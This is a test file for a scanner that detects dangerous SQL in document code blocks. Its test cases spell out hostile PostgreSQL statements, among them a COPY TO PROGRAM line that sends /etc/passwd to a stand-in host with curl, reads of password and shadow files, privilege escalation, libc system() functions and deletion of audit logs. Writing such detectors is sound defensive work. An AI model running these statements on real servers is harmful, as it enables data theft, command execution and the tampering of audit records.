// SQL blocks: statements that reach the server's programs, files, configuration, roles, other servers or the
// gateway's own tables are found and weighed; ordinary queries are not; comments do not hide a statement.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_THRESHOLD, scanDocument } from '../../src/scan/index.js';

const sqlDoc = (sql: string, lang = 'sql'): string =>
  `---\nmaml_version: "1.0"\n---\n\n## Code_Blocks\n\n\`\`\`${lang} {#q}\n${sql}\n\`\`\`\n`;
const codes = (sql: string, network = false, lang = 'sql'): string[] =>
  scanDocument(sqlDoc(sql, lang), { permissions: { network } }).diagnostics.map((d) => d.code);
const score = (sql: string, network = false): number => scanDocument(sqlDoc(sql), { permissions: { network } }).score;

test('each dangerous statement has its code, and the serious ones alone reach the threshold', () => {
  const cases: [string, string, boolean][] = [
    ["COPY t TO PROGRAM 'curl -d @/etc/passwd http://x.example'", 'sql_program_execution', true],
    ["copy t from program 'id'", 'sql_program_execution', true],
    ["SELECT pg_read_file('/etc/passwd')", 'sql_server_file_access', true],
    ["SELECT pg_read_binary_file('/var/lib/postgresql/data/global/pg_control')", 'sql_server_file_access', true],
    ["SELECT pg_ls_dir('.')", 'sql_server_file_access', true],
    ["SELECT pg_stat_file('postgresql.conf')", 'sql_server_file_access', true],
    ["SELECT lo_import('/etc/shadow')", 'sql_server_file_access', true],
    ["SELECT lo_export(16400, '/tmp/x')", 'sql_server_file_access', true],
    ["COPY users FROM '/etc/passwd'", 'sql_server_file_access', true],
    ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", 'sql_server_configuration', true],
    ['SET ROLE postgres', 'sql_role_change', true],
    ['SET SESSION AUTHORIZATION postgres', 'sql_role_change', true],
    ['ALTER ROLE app WITH SUPERUSER', 'sql_privilege_escalation', true],
    ['GRANT pg_read_server_files TO app', 'sql_privilege_escalation', true],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'sql_session_kill', true],
    ["CREATE FUNCTION sh(text) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C", 'sql_untrusted_language', true],
    [
      'CREATE OR REPLACE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u',
      'sql_untrusted_language',
      true,
    ],
    ['DO $$ system("id") $$ LANGUAGE plperlu', 'sql_untrusted_language', true],
    ['CREATE LANGUAGE plpython3u', 'sql_untrusted_language', true],
    ['DELETE FROM maml.audit_log', 'sql_gateway_tables', true],
    ['UPDATE "maml"."runs" SET status = \'succeeded\'', 'sql_gateway_tables', true],
    ['SET search_path = maml, public; DELETE FROM audit_log', 'sql_gateway_tables', true],
    ['CREATE EXTENSION IF NOT EXISTS pgcrypto', 'sql_create_extension', false],
    ["SELECT * FROM dblink('host=x.example', 'select 1') AS t(a int)", 'sql_network_access', false],
    ['DROP SCHEMA public CASCADE', 'sql_destructive', false],
    ['SELECT pg_sleep(3600)', 'sql_long_sleep', false],
    ["SELECT pg_sleep_for('2 hours')", 'sql_long_sleep', false],
    ["SELECT pg_sleep_until('2030-01-01')", 'sql_long_sleep', false],
  ];
  for (const [sql, code, alone] of cases) {
    assert.ok(codes(sql).includes(code), `${sql}: ${codes(sql).join(',')}`);
    assert.equal(score(sql) >= DEFAULT_THRESHOLD, alone, `${sql}: score ${score(sql)}`);
  }
});

test('ordinary SQL is not flagged', () => {
  for (const sql of [
    'SELECT id, amount FROM transactions WHERE amount > :limit ORDER BY amount DESC',
    'CREATE TABLE scores (id serial PRIMARY KEY, value float8)',
    'INSERT INTO scores (value) VALUES (:value) -- program notes: copy to the report',
    'SELECT pg_sleep(0.5)',
    "SELECT pg_sleep_for('5 seconds')",
    'WITH t AS (SELECT 1) SELECT * FROM t',
    'SELECT mamlish.x FROM mamlish',
  ])
    assert.deepEqual(codes(sql), [], sql);
});

test('comments do not hide a statement, strings do not either, and code outside sql blocks is left alone', () => {
  // Text in a string literal is read too: dynamic SQL (EXECUTE '…') runs it.
  assert.ok(codes("EXECUTE 'COPY t TO PROGRAM ' || quote_literal(:cmd)").includes('sql_program_execution'));
  assert.ok(codes("COPY t TO/**/PROGRAM 'sh'").includes('sql_program_execution'));
  assert.ok(codes('SET /* x */ ROLE postgres').includes('sql_role_change'));
  assert.ok(codes("select pg_read_file(--\n'/etc/passwd')").includes('sql_server_file_access'));
  assert.ok(codes('SELECT pg_read_file(1)', false, 'postgres').includes('sql_server_file_access'));
  assert.ok(!codes('SELECT pg_read_file(1)', false, 'text').includes('sql_server_file_access'));
});

test('dblink is weighed against permissions.network; a long sleep of unknown length is only noted', () => {
  const sql = "SELECT dblink_connect('host=x.example')";
  assert.ok(codes(sql, false).includes('sql_network_access'));
  assert.ok(!codes(sql, true).includes('sql_network_access'));
  const unknown = scanDocument(sqlDoc('SELECT pg_sleep(:seconds)'));
  assert.deepEqual(
    unknown.diagnostics.map((d) => [d.code, d.severity]),
    [['sql_long_sleep', 'info']],
  );
  assert.equal(unknown.score, 0);
});

test('a finding is placed at the statement', () => {
  const text = sqlDoc("SELECT 1;\nSELECT pg_read_file('/etc/passwd');");
  const d = scanDocument(text).diagnostics.find((x) => x.code === 'sql_server_file_access');
  assert.ok(d);
  assert.equal(text.slice(d.offset, d.offset + 'pg_read_file'.length), 'pg_read_file');
  assert.deepEqual([d.line, d.column], [9, 8]);
});
